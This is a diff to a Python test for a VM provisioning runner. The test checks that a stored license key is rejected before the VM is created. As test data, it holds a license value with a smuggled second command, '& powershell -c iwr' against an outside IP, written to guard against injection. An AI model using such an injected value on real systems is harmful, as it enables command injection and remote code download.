@@ -246,11 +246,12 @@ def test_the_runner_rechecks_a_stored_key_before_it_builds_the_payload(
         license_secret("2002", "plesk"), PLESK_CODE + " & powershell -c iwr http://203.0.113.9/x"
     )
     failed = runner.run(job.id)
-    assert (failed.state, failed.failed_step) == ("failed", "initializing")
+    # The payload goes with the create: built (and checked) before the VM exists.
+    assert (failed.state, failed.failed_step) == ("failed", "cloning")
     assert (
         failed.error_code == "unsafe_first_boot_value" and "license.plesk" in failed.error_message
     )
-    assert "powershell" not in str(engine_sim.vm("vps-2002").get("initialization") or "")
+    assert not any(m == "POST" and p == "/vms" for m, p, _ in engine_sim.calls)
     flow_services.secrets.set(license_secret("2002", "plesk"), PLESK_CODE)
     done = runner.retry(job.id)
     assert done.state == "done", done.error_message
